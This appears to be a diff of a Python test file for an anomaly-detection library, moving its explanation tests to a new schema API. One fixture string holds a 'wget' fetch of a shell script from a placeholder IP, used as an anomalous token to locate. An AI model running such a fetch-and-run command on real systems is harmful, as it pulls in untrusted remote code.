@@ -13,10 +13,13 @@ from ramodo.explain.naming import explained
 from ramodo.explain.passages import facts_of, passages
 from ramodo.explain.reasons import Lacks, Reason, RowExplanation, Span
 from ramodo.formats import How, Table, TextOptions
-from ramodo.formats.blending import blended, documents_of
-from ramodo.formats.circles import names_of_circle, on_circle
+from ramodo.formats.cyclic_dates import on_circles
+from ramodo.formats.schema import Column, Schema
 from ramodo.formats.text import spans_of, vectorize
+from ramodo.formats.text_and_columns import documents_of, with_texts
 from ramodo.report.marking import marked
+
+pytestmark = pytest.mark.slow
 
 OPTIONS = TextOptions()
 
@@ -90,21 +93,24 @@ def test_a_line_that_is_odd_from_end_to_end_is_one_run():
 def test_runs_of_columns_of_documents_say_which_and_where():
     """Each column has runs of its own, whose places are those of the text that is shown."""
     fields = {"subject": ["ordinary words here"], "body": ["and then WGET+http://198.51.100.9/x.sh again"]}
-    table = blended(fields, Table(np.array([[4.0]]), names=["size"]), How(texts=OPTIONS))
+    size = Table(np.array([[4.0]]), schema=Schema(columns=(Column(name="size"),)))
+    table = with_texts(fields, size, How(schema=Schema(tokens=OPTIONS)))
+    width = table.schema.columns[0].width
     columns = np.sort(table.X.indices).astype(np.int64)
     worth = dict(zip(*worth_of(fields["body"][0], "wget+http://198.51.100.9/x.sh"), strict=True))
-    amounts = np.array([worth.get(column - table.widths[0], 0.01) for column in columns.tolist()])
+    amounts = np.array([worth.get(column - width, 0.01) for column in columns.tolist()])
     found, is_token = facts_of(documents_of(table, 0), [], columns, amounts, OPTIONS)
     assert is_token.tolist() == [True] * (len(columns) - 1) + [False]
     assert found[0].name.startswith("body: 'WGET+http://198.51.100.9/x")
     (span,) = found[0].spans
     assert table.texts[0][span.begin : span.end] == found[0].text
-    assert columns[found[0].members].min() >= table.widths[0]
+    assert columns[found[0].places].min() >= width
     assert {run.field for run in found[1:]} == {"subject"}
 
 
 def test_a_document_that_is_not_shown_has_runs_without_places():
-    table = replace(blended({"a": ["one"], "b": ["two"]}, Table(None), How(texts=OPTIONS)), texts=["two"])
+    table = with_texts({"a": ["one"], "b": ["two"]}, Table(None), How(schema=Schema(tokens=OPTIONS)))
+    table = replace(table, texts=["two"])
     assert [(document.field, document.begin) for document in documents_of(table, 0)] == [("a", None), ("b", 0)]
 
 
@@ -112,13 +118,14 @@ def test_an_hour_is_one_reason_as_people_write_it():
     """300 visits by day and one at night, with a category that only it has, and a number below zero."""
     rng = np.random.default_rng(0)
     hours = np.append(9 + 8 * rng.random(300), 3.2)
-    names = [*names_of_circle("when", "hour"), "plan=root", "balance"]
+    columns = (Column(name="when", kind="date", first_day=0), Column(name="plan", kind="category", values=("root",)))
+    schema = Schema(columns=(*columns, Column(name="balance")))
     others = np.stack([np.arange(301) == 300, np.where(np.arange(301) == 300, -2.0, rng.normal(-8, 1, 301))], axis=1)
-    X = np.hstack([on_circle("hour", hours / 24), others])
-    table = Table(X, names=names, dates={"when": 0})
+    X = np.hstack([np.zeros((301, 1)), on_circles(3600 * hours), others])
+    table = Table(X, schema=schema)
     detector = REPEN(random_state=0).fit(X)
-    detector.feature_names_in_ = np.array(names, dtype=object)
-    why = explained(detector, table, [300], detector.outlier_scores_, 5, OPTIONS)[0]
+    detector.feature_names_in_ = np.array(schema.names, dtype=object)
+    why = explained(detector, table, [300], detector.outlier_scores_, 3)[0]
     said = {reason.feature: (reason.in_words(), reason.typical()) for reason in why.reasons}
     assert set(said) == {"when, hour of the day", "plan=root", "balance"}
     written, usual = said["when, hour of the day"]
@@ -128,7 +135,6 @@ def test_an_hour_is_one_reason_as_people_write_it():
     assert said["balance"][1].startswith("higher than usual: mean -7.")
     total = sum(reason.contribution for reason in why.reasons) + why.lacks.contribution + why.rest
     assert total == pytest.approx(why.score)
-    assert why.to_dict()["reasons"][0]["merged"] in (1, 2)
 
 
 def test_rows_of_a_small_table_are_not_all_alike():
@@ -145,7 +151,9 @@ def test_rows_of_a_small_table_are_not_all_alike():
 def test_a_long_document_shows_where_its_reasons_are():
     text = "ordinary words " * 200 + "CASINO\x1b" + " more words" * 200
     at = text.index("CASINO")
-    reason = Reason(0, "'CASINO'", 1.0, 2.0, 0.0, 0.0, (Span(at, at + 6, 2.0),))
+    reason = Reason(
+        column=0, feature="'CASINO'", value=1.0, contribution=2.0, share=0.0, mean=0.0, spans=(Span(at, at + 6, 2.0),)
+    )
     shown, marks = marked(text, [reason], 300)
     assert len(shown) < 320
     assert shown.startswith("ordinary words")
@@ -155,22 +163,86 @@ def test_a_long_document_shows_where_its_reasons_are():
 
 
 def test_fewer_than_usual_is_said():
-    fewer = Reason(0, "'---'", 6.0, 1.0, 0.98, 8.0, (Span(0, 3, 1.0),))
+    fewer = Reason(
+        column=0, feature="'---'", value=6.0, contribution=1.0, share=0.98, mean=8.0, spans=(Span(0, 3, 1.0),)
+    )
     assert fewer.typical().startswith("fewer than usual: in 98 % of references, mean 8")
-    assert Reason(0, "age", 6.0, 1.0, 0.98, 8.0).compared() == "lower than usual"
-    assert Reason(0, "age", 6.0, 1.0, 0.2, 8.0).compared() == ""
-    assert Reason(0, "balance", 6.0, 1.0, 1.0, -8.0).typical() == "higher than usual: mean -8"
-    assert Reason(0, "size", 30258.0, 1.0, 1.0, 18000.0).in_words() == "size = 30,258"
-    assert Reason(0, "status=403", 1.0, 1.0, 0.0, 0.0).in_words() == "status=403"
-    assert Reason(0, "'x'", 1.0, 1.0, 0.1, 1.0, (Span(0, 1, 1.0),), 3, 4, 90).typical() == "in at most 4 of 90 rows"
-    assert Reason(0, "'x'", 1.0, 1.0, 0.0, 0.0, (Span(0, 1, 1.0),), 3, 0, 90).typical() == "in none of 90 rows"
+    assert (
+        Reason(column=0, feature="age", value=6.0, contribution=1.0, share=0.98, mean=8.0).compared()
+        == "lower than usual"
+    )
+    assert Reason(column=0, feature="age", value=6.0, contribution=1.0, share=0.2, mean=8.0).compared() == ""
+    assert (
+        Reason(column=0, feature="balance", value=6.0, contribution=1.0, share=1.0, mean=-8.0).typical()
+        == "higher than usual: mean -8"
+    )
+    assert (
+        Reason(column=0, feature="size", value=30258.0, contribution=1.0, share=1.0, mean=18000.0).in_words()
+        == "size = 30,258"
+    )
+    assert (
+        Reason(column=0, feature="status=403", value=1.0, contribution=1.0, share=0.0, mean=0.0).in_words()
+        == "status=403"
+    )
+    assert (
+        Reason(
+            column=0,
+            feature="'x'",
+            value=1.0,
+            contribution=1.0,
+            share=0.1,
+            mean=1.0,
+            spans=(Span(0, 1, 1.0),),
+            merged=3,
+            rows=4,
+            n_rows=90,
+        ).typical()
+        == "in at most 4 of 90 rows"
+    )
+    assert (
+        Reason(
+            column=0,
+            feature="'x'",
+            value=1.0,
+            contribution=1.0,
+            share=0.0,
+            mean=0.0,
+            spans=(Span(0, 1, 1.0),),
+            merged=3,
+            rows=0,
+            n_rows=90,
+        ).typical()
+        == "in none of 90 rows"
+    )
 
 
 def test_a_score_that_is_spread_out_is_said_to_be():
-    reasons = tuple(Reason(i, f"f{i}", 1.0, 1.4, 0.1, 1.0) for i in range(10))
-    spread = RowExplanation(0, 100.0, 99.0, reasons, 80.0, (), (), Lacks(6.0, 312, ()), 812)
+    reasons = tuple(
+        Reason(column=i, feature=f"f{i}", value=1.0, contribution=1.4, share=0.1, mean=1.0) for i in range(10)
+    )
+    spread = RowExplanation(
+        row=0,
+        score=100.0,
+        percentile=99.0,
+        reasons=reasons,
+        rest=80.0,
+        nearest=(),
+        views=(),
+        lacks=Lacks(6.0, 312, ()),
+        n_reasons=812,
+    )
     assert spread.spread() == "no single reason: the strongest 10 of 812 features make 14 % of the score"
-    enough = RowExplanation(0, 16.0, 99.0, reasons, 2.0, (), (), Lacks(0.0, 0, ()), 812)
+    enough = RowExplanation(
+        row=0,
+        score=16.0,
+        percentile=99.0,
+        reasons=reasons,
+        rest=2.0,
+        nearest=(),
+        views=(),
+        lacks=Lacks(0.0, 0, ()),
+        n_reasons=812,
+    )
     assert enough.spread() == ""
 
 
